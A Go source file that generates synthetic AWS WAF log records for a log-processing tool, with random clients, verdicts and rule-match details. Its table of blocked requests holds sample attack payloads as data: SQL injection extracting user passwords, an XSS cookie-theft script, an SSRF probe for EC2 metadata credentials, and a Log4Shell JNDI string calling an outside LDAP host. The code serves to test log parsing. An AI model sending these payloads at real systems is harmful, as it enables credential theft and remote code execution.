package waf

import (
	"fmt"
	"math/rand/v2"
	"strconv"
	"strings"

	"github.com/logtide/logtide/worker/format/jsonw"
)

// gen renders the requests of one object.
type gen struct {
	c   *Corpus
	acl *webACL
	r   *rand.Rand
	b   []byte // the record being written
	sep bool   // a value was just written: the next one needs a comma
	ip  string
}

// client is where requests come from: a country, one of its regions, and
// address prefixes there.
type client struct {
	country, region string
	v4              [2]byte
	v6              string
}

var clients = []client{
	{"US", "US-VA", [2]byte{54, 210}, "2600:1f18:"}, {"US", "US-CA", [2]byte{76, 102}, "2600:387:"},
	{"US", "US-TX", [2]byte{99, 40}, "2603:8080:"}, {"DE", "DE-HE", [2]byte{91, 64}, "2003:e4:"},
	{"GB", "GB-ENG", [2]byte{81, 2}, "2a00:23c5:"}, {"FR", "FR-IDF", [2]byte{90, 12}, "2a01:cb00:"},
	{"NL", "NL-NH", [2]byte{178, 84}, "2a02:a46e:"}, {"JP", "JP-13", [2]byte{126, 21}, "240b:10:"},
	{"BR", "BR-SP", [2]byte{177, 37}, "2804:14c:"}, {"IN", "IN-MH", [2]byte{49, 36}, "2401:4900:"},
	{"SG", "SG-01", [2]byte{116, 86}, "2406:3003:"}, {"AU", "AU-NSW", [2]byte{101, 160}, "2001:8003:"},
}

var browsers = []string{
	"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36",
	"Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.2 Safari/605.1.15",
	"Mozilla/5.0 (iPhone; CPU iPhone OS 18_2 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.2 Mobile/15E148 Safari/604.1",
	"Mozilla/5.0 (X11; Ubuntu; Linux x86_64; rv:133.0) Gecko/20100101 Firefox/133.0",
	"Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.6778.104 Mobile Safari/537.36",
	"Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
}

// page is an ordinary request.
type page struct{ method, uri, args string }

var webPages = []page{
	{"GET", "/", ""}, {"GET", "/index.html", ""}, {"GET", "/favicon.ico", ""},
	{"GET", "/static/js/app.3f9c1a7e.js", ""}, {"GET", "/static/css/main.8d21b0c4.css", ""},
	{"GET", "/products", "category=shoes&page=2"}, {"GET", "/products/8812", ""},
	{"GET", "/search", "q=trail+running&sort=price_asc"}, {"POST", "/cart/items", ""},
	{"GET", "/api/v1/recommendations", "user=anonymous&limit=12"}, {"POST", "/checkout", ""},
}

var apiPages = []page{
	{"GET", "/orders", "status=open"}, {"GET", "/orders/ord-20260105-4471", ""},
	{"POST", "/orders", ""}, {"GET", "/inventory", "sku=TR-8812-42"}, {"PUT", "/profile", ""},
}

// attack is a request a managed rule group blocks.
type attack struct {
	group, rule, label string
	// cond, location and matched are its terminatingRuleMatchDetails, for
	// the rules that report them.
	cond, location string
	matched        []string
	page           page
	ua             string // "": a browser's; "-": none
	header         [2]string
}

var attacks = []attack{
	{group: "AWSManagedRulesSQLiRuleSet", rule: "SQLi_QUERYARGUMENTS", label: "awswaf:managed:aws:sql-database:SQLi_QueryArguments",
		cond: "SQL_INJECTION", location: "QUERY_STRING", matched: []string{"UNION", "SELECT"},
		page: page{"GET", "/products", "id=1%20UNION%20SELECT%20username,password%20FROM%20users--"}, ua: "sqlmap/1.8.4#stable (https://sqlmap.org)"},
	{group: "AWSManagedRulesCommonRuleSet", rule: "CrossSiteScripting_QUERYARGUMENTS", label: "awswaf:managed:aws:core-rule-set:CrossSiteScripting_QueryArguments",
		cond: "XSS", location: "QUERY_STRING", matched: []string{"<", "script"},
		page: page{"GET", "/search", "q=%3Cscript%3Ealert(document.cookie)%3C/script%3E"}},
	{group: "AWSManagedRulesCommonRuleSet", rule: "NoUserAgent_HEADER", label: "awswaf:managed:aws:core-rule-set:NoUserAgent_Header",
		page: page{"GET", "/", ""}, ua: "-"},
	{group: "AWSManagedRulesCommonRuleSet", rule: "EC2MetaDataSSRF_QUERYARGUMENTS", label: "awswaf:managed:aws:core-rule-set:EC2MetaDataSSRF_QueryArguments",
		page: page{"GET", "/api/v1/fetch", "url=http://169.254.169.254/latest/meta-data/iam/security-credentials/"}, ua: "python-requests/2.32.3"},
	{group: "AWSManagedRulesKnownBadInputsRuleSet", rule: "Log4JRCE_HEADER", label: "awswaf:managed:aws:known-bad-inputs:Log4JRCE_Header",
		page: page{"GET", "/", ""}, ua: "Mozilla/5.0 zgrab/0.x", header: [2]string{"X-Api-Version", "${jndi:ldap://198.51.100.23:1389/Exploit}"}},
	{group: "AWSManagedRulesKnownBadInputsRuleSet", rule: "ExploitablePaths_URIPATH", label: "awswaf:managed:aws:known-bad-inputs:ExploitablePaths_URIPath",
		page: page{"GET", "/WEB-INF/web.xml", ""}, ua: "Mozilla/5.0 (compatible; Nuclei - Open-source project (github.com/projectdiscovery/nuclei))"},
	{group: "AWSManagedRulesAmazonIpReputationList", rule: "AWSManagedIPReputationList", label: "awswaf:managed:aws:amazon-ip-list:AWSManagedIPReputationList",
		page: page{"POST", "/login", ""}},
}

// ruleGroups are the managed rule groups every web ACL runs, in order.
var ruleGroups = []string{"AWSManagedRulesAmazonIpReputationList", "AWSManagedRulesCommonRuleSet", "AWSManagedRulesKnownBadInputsRuleSet", "AWSManagedRulesSQLiRuleSet"}

var ja4s = []string{"t13d1516h2_8daaf6152771_02713d6af862", "t13d1717h2_5b57614c22b0_3cbfd9057e0d", "t13d4907h2_0d8feac7bc37_7395dae3b2f3", "t12d190700_d83cc789557e_7af1ed941c26"}

// verdict is what the web ACL did with a request.
type verdict int

const (
	allowed verdict = iota
	allowedCounted
	allowedSolved // a CAPTCHA rule matched and the client had a valid token
	blockedManaged
	blockedRate
	captchaSent
	challengeSent
)

func (g *gen) verdict() verdict {
	switch n := g.r.IntN(100); {
	case n < 66:
		return allowed
	case n < 78:
		return allowedCounted
	case n < 81:
		return allowedSolved
	case n < 90:
		return blockedManaged
	case n < 95:
		return blockedRate
	case n < 98:
		return captchaSent
	default:
		return challengeSent
	}
}

// request writes one request received at ms to g.b, without a newline.
func (g *gen) request(ms int64) {
	r, acl := g.r, g.acl
	g.b, g.sep = g.b[:0], false
	cl := &clients[r.IntN(len(clients))]
	if r.IntN(20) == 0 {
		g.ip = fmt.Sprintf("%s%x:%x:%x:%x:%x:%x", cl.v6, r.IntN(0x10000), r.IntN(0x10000), r.IntN(0x10000),
			r.IntN(0x10000), r.IntN(0x10000), r.IntN(0x10000))
	} else {
		g.ip = fmt.Sprintf("%d.%d.%d.%d", cl.v4[0], cl.v4[1], r.IntN(256), 1+r.IntN(254))
	}
	source := "CF"
	if !acl.cloudfront {
		source = []string{"ALB", "ALB", "ALB", "APIGW", "APIGW", "APPSYNC", "COGNITOIDP"}[r.IntN(7)]
	}
	v := g.verdict()
	var at *attack
	if v == blockedManaged {
		at = &attacks[r.IntN(len(attacks))]
	}
	pg := g.page(source, v, at)
	ua := browsers[r.IntN(len(browsers))]
	if at != nil && at.ua != "" {
		ua = at.ua
	}
	// A COUNT match: a managed rule whose action is overridden to COUNT, or
	// one of the web ACL's own rules; counted is the label it adds.
	countBody := v == allowedCounted && r.IntN(2) == 0
	var counted string
	if countBody {
		counted = "awswaf:managed:aws:core-rule-set:SizeRestrictions_Body"
		pg.method = "POST"
	}

	g.open()
	g.kraw("timestamp", strconv.FormatInt(ms, 10))
	g.kraw("formatVersion", "1")
	g.kstr("webaclId", acl.arn)
	switch v {
	case blockedManaged:
		g.kstr("terminatingRuleId", "AWS-"+at.group)
		g.kstr("terminatingRuleType", "MANAGED_RULE_GROUP")
		g.kstr("action", "BLOCK")
	case blockedRate:
		g.kstr("terminatingRuleId", "rate-limit-per-client")
		g.kstr("terminatingRuleType", "RATE_BASED")
		g.kstr("action", "BLOCK")
	case captchaSent:
		g.kstr("terminatingRuleId", "captcha-login")
		g.kstr("terminatingRuleType", "REGULAR")
		g.kstr("action", "CAPTCHA")
	case challengeSent:
		g.kstr("terminatingRuleId", "challenge-automation")
		g.kstr("terminatingRuleType", "REGULAR")
		g.kstr("action", "CHALLENGE")
	default:
		g.kstr("terminatingRuleId", "Default_Action")
		g.kstr("terminatingRuleType", "REGULAR")
		g.kstr("action", "ALLOW")
	}
	g.key("terminatingRuleMatchDetails")
	g.openArr()
	if at != nil && at.cond != "" {
		g.open()
		g.kstr("conditionType", at.cond)
		if at.cond == "SQL_INJECTION" {
			g.kstr("sensitivityLevel", "LOW")
		}
		g.kstr("location", at.location)
		g.key("matchedData")
		g.strs(at.matched...)
		g.close()
	}
	g.closeArr()
	g.kstr("httpSourceName", source)
	g.kstr("httpSourceId", g.sourceID(source))
	g.ruleGroups(at, countBody)
	g.rateRules(v, source)
	g.key("nonTerminatingMatchingRules")
	g.openArr()
	if v == allowedCounted && counted == "" {
		g.open()
		g.kstr("ruleId", "count-admin-paths")
		g.kstr("action", "COUNT")
		g.key("ruleMatchDetails")
		g.openArr()
		g.closeArr()
		g.close()
		counted = "awswaf:" + acl.account + ":webacl:" + acl.name + ":admin-path"
		pg = page{"GET", "/admin/reports", "range=7d"}
	}
	if v == allowedSolved {
		g.open()
		g.kstr("ruleId", "captcha-login")
		g.kstr("action", "CAPTCHA")
		g.key("ruleMatchDetails")
		g.openArr()
		g.closeArr()
		g.key("captchaResponse")
		g.open()
		g.kraw("responseCode", "0")
		g.kraw("solveTimestamp", strconv.FormatInt(ms/1000-int64(30+r.IntN(240)), 10))
		g.close()
		g.close()
		pg = page{"POST", "/login", ""}
	}
	g.closeArr()
	g.kraw("requestHeadersInserted", "null")
	if v == blockedRate && r.IntN(2) == 0 {
		g.kraw("responseCodeSent", "429")
	} else {
		g.kraw("responseCodeSent", "null")
	}
	g.httpRequest(cl, source, pg, ua, at, ms)
	g.labels(cl, at, counted, v)
	switch v {
	case captchaSent:
		g.key("captchaResponse")
		g.open()
		g.kraw("responseCode", "405")
		g.kstr("failureReason", "TOKEN_MISSING")
		g.close()
	case challengeSent:
		g.key("challengeResponse")
		g.open()
		g.kraw("responseCode", "202")
		g.kstr("failureReason", "TOKEN_MISSING")
		g.close()
	}
	if pg.method == "POST" || pg.method == "PUT" {
		g.kraw("requestBodySize", strconv.Itoa(64+r.IntN(9000)))
		g.kraw("requestBodySizeInspectedByWAF", "8192")
	}
	if source == "CF" {
		g.kstr("ja3Fingerprint", randString(r, hexDigits, 32))
		g.kstr("ja4Fingerprint", ja4s[r.IntN(len(ja4s))])
	}
	g.close()
}

// page is the method, path and query of a request with verdict v.
func (g *gen) page(source string, v verdict, at *attack) page {
	r := g.r
	switch {
	case at != nil:
		return at.page
	case v == captchaSent:
		return page{"POST", "/login", ""}
	case source == "APIGW":
		return apiPages[r.IntN(len(apiPages))]
	case source == "APPSYNC":
		return page{"POST", "/graphql", ""}
	case source == "COGNITOIDP":
		return page{"POST", "/", ""}
	}
	return webPages[r.IntN(len(webPages))]
}

func (g *gen) sourceID(source string) string {
	acl := g.acl
	switch source {
	case "CF":
		return acl.distribution
	case "ALB":
		return acl.account + "-" + acl.lb
	case "APIGW":
		return acl.account + ":" + acl.api + ":" + acl.stage
	case "APPSYNC":
		return acl.account + ":" + acl.appsync
	}
	return acl.account + ":" + acl.userPool
}

// ruleGroups writes ruleGroupList: every managed group of the web ACL, the
// blocking one with its terminating rule, and the body size rule counted
// instead of blocking where countBody says so.
func (g *gen) ruleGroups(at *attack, countBody bool) {
	g.key("ruleGroupList")
	g.openArr()
	for _, group := range ruleGroups {
		g.open()
		g.kstr("ruleGroupId", "AWS#"+group)
		g.key("terminatingRule")
		if at != nil && at.group == group {
			g.open()
			g.kstr("ruleId", at.rule)
			g.kstr("action", "BLOCK")
			g.kraw("ruleMatchDetails", "null")
			g.close()
		} else {
			g.raw("null")
		}
		g.key("nonTerminatingMatchingRules")
		g.openArr()
		if countBody && group == "AWSManagedRulesCommonRuleSet" {
			g.open()
			g.kstr("ruleId", "SizeRestrictions_BODY")
			g.kstr("action", "COUNT")
			g.kstr("overriddenAction", "BLOCK")
			g.key("ruleMatchDetails")
			g.openArr()
			g.closeArr()
			g.close()
		}
		g.closeArr()
		g.kraw("excludedRules", "null")
		g.kraw("customerConfig", "null")
		g.close()
		if at != nil && at.group == group {
			break // the groups after the blocking one are not evaluated
		}
	}
	g.closeArr()
}

// rateRules writes rateBasedRuleList: the rule that blocked the request, or
// now and then the rules that counted it without blocking. Their
// evaluationWindowSec is sometimes a string, as in real logs.
func (g *gen) rateRules(v verdict, source string) {
	r, acl := g.r, g.acl
	g.key("rateBasedRuleList")
	g.openArr()
	if v == blockedRate || r.IntN(10) == 0 {
		window := []string{"300", `"300"`, "120", `"120"`, "60"}[r.IntN(5)]
		scope := "regional"
		if acl.cloudfront {
			scope = "global"
		}
		g.open()
		family := "IPV4"
		if strings.Contains(g.ip, ":") {
			family = "IPV6"
		}
		g.kstr("rateBasedRuleId", fmt.Sprintf("arn:aws:wafv2:%s:%s_MANAGED:%s/ipset/%s_%s_%s/%s",
			acl.region, acl.account, scope, acl.id, acl.rateRule, family, acl.rateRule))
		g.kstr("rateBasedRuleName", "rate-limit-per-client")
		if source == "APIGW" && r.IntN(2) == 0 {
			g.kstr("limitKey", "CUSTOMKEYS")
			g.kraw("maxRateAllowed", "100")
			g.kraw("evaluationWindowSec", window)
			g.key("customValues")
			g.openArr()
			g.open()
			g.kstr("key", "HEADER")
			g.kstr("name", "x-api-key")
			g.kstr("value", "key-"+randString(r, lowerDigits, 8))
			g.close()
			g.closeArr()
		} else {
			g.kstr("limitKey", "IP")
			g.kraw("maxRateAllowed", "2000")
			g.kraw("evaluationWindowSec", window)
			g.kstr("limitValue", g.ip)
		}
		g.close()
	}
	g.closeArr()
}

// httpRequest writes the request as WAF saw it. Header names keep the case
// the client sent: lower case over HTTP/2, capitalised over HTTP/1.1.
func (g *gen) httpRequest(cl *client, source string, pg page, ua string, at *attack, ms int64) {
	r, acl := g.r, g.acl
	version := "HTTP/1.1"
	if source == "CF" && r.IntN(10) < 7 || source == "APPSYNC" {
		version = "HTTP/2.0"
	}
	lower := version == "HTTP/2.0"
	name := func(s string) string {
		if lower {
			b := []byte(s)
			for i, c := range b {
				if c >= 'A' && c <= 'Z' {
					b[i] = c + 'a' - 'A'
				}
			}
			return string(b)
		}
		return s
	}
	var host string
	switch source {
	case "CF":
		host = "www.example-shop.com"
	case "ALB":
		host = "shop.example-shop.com"
	case "APIGW":
		host = acl.api + ".execute-api." + acl.region + ".amazonaws.com"
	case "APPSYNC":
		host = acl.appsync + ".appsync-api." + acl.region + ".amazonaws.com"
	default:
		host = "cognito-idp." + acl.region + ".amazonaws.com"
	}
	g.key("httpRequest")
	g.open()
	g.kstr("clientIp", g.ip)
	g.kstr("country", cl.country)
	g.key("headers")
	g.openArr()
	g.header(name("Host"), host)
	if ua != "-" {
		g.header(name("User-Agent"), ua)
	}
	switch source {
	case "APIGW":
		g.header("X-Forwarded-For", g.ip)
		g.header("X-Forwarded-Proto", "https")
		g.header("X-Forwarded-Port", "443")
		g.header("X-Amzn-Trace-Id", fmt.Sprintf("Root=1-%08x-%s", ms/1000, randString(r, hexDigits, 24)))
	case "COGNITOIDP":
		g.header("X-Amz-Target", "AWSCognitoIdentityProviderService.InitiateAuth")
		g.header("Content-Type", "application/x-amz-json-1.1")
	case "APPSYNC":
		g.header("content-type", "application/json")
	default:
		g.header(name("Accept"), "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8")
		g.header(name("Accept-Language"), "en-US,en;q=0.9")
		g.header(name("Accept-Encoding"), "gzip, deflate, br")
		if source == "ALB" && r.IntN(4) == 0 {
			// Behind a corporate proxy and a CDN: several hops, now and then
			// in two headers of different case, or with an unknown hop.
			g.header("X-Forwarded-For", fmt.Sprintf("%s, 10.%d.%d.%d", g.ip, r.IntN(256), r.IntN(256), 1+r.IntN(254)))
			switch r.IntN(3) {
			case 0:
				g.header("x-forwarded-for", fmt.Sprintf("198.51.100.%d", 1+r.IntN(254)))
			case 1:
				g.header("X-Forwarded-For", "unknown")
			}
		}
	}
	if at != nil && at.header[0] != "" {
		g.header(at.header[0], at.header[1])
	}
	g.closeArr()
	g.kstr("uri", pg.uri)
	g.kstr("args", pg.args)
	g.kstr("httpVersion", version)
	g.kstr("httpMethod", pg.method)
	if r.IntN(200) != 0 { // now and then a request without an id
		g.kstr("requestId", g.requestID(source, ms))
	}
	g.kstr("fragment", "")
	g.kstr("scheme", "https")
	g.kstr("host", host)
	g.close()
}

func (g *gen) requestID(source string, ms int64) string {
	r := g.r
	switch source {
	case "CF":
		return randString(r, base64Chars, 54) + "=="
	case "ALB":
		return fmt.Sprintf("1-%08x-%s", ms/1000, randString(r, hexDigits, 24))
	case "APIGW":
		return randString(r, base64Chars, 15) + "="
	}
	return uuid4(r)
}

// labels writes the labels rules added: the client's place, the blocking
// or counting rule's, and the token's for CAPTCHA and challenge actions.
func (g *gen) labels(cl *client, at *attack, counted string, v verdict) {
	g.key("labels")
	g.openArr()
	g.label("awswaf:clientip:geo:country:" + cl.country)
	g.label("awswaf:clientip:geo:region:" + cl.region)
	if at != nil {
		g.label(at.label)
	}
	if counted != "" {
		g.label(counted)
	}
	if v == captchaSent || v == challengeSent {
		g.label("awswaf:managed:token:absent")
	}
	g.closeArr()
}

func (g *gen) label(name string) {
	g.open()
	g.kstr("name", name)
	g.close()
}

func (g *gen) header(name, value string) {
	g.open()
	g.kstr("name", name)
	g.kstr("value", value)
	g.close()
}

// The JSON writer: compact, with commas where they belong.

func (g *gen) comma() {
	if g.sep {
		g.b = append(g.b, ',')
	}
}

func (g *gen) key(k string) {
	g.comma()
	g.b = jsonw.Member(g.b, k, true)
	g.sep = false
}

func (g *gen) open()     { g.comma(); g.b = append(g.b, '{'); g.sep = false }
func (g *gen) close()    { g.b = append(g.b, '}'); g.sep = true }
func (g *gen) openArr()  { g.comma(); g.b = append(g.b, '['); g.sep = false }
func (g *gen) closeArr() { g.b = append(g.b, ']'); g.sep = true }
func (g *gen) raw(v string) {
	g.comma()
	g.b = append(g.b, v...)
	g.sep = true
}
func (g *gen) str(s string)     { g.comma(); g.b = jsonw.String(g.b, s); g.sep = true }
func (g *gen) kstr(k, v string) { g.key(k); g.str(v) }
func (g *gen) kraw(k, v string) { g.key(k); g.raw(v) }
func (g *gen) strs(values ...string) {
	g.openArr()
	for _, s := range values {
		g.str(s)
	}
	g.closeArr()
}
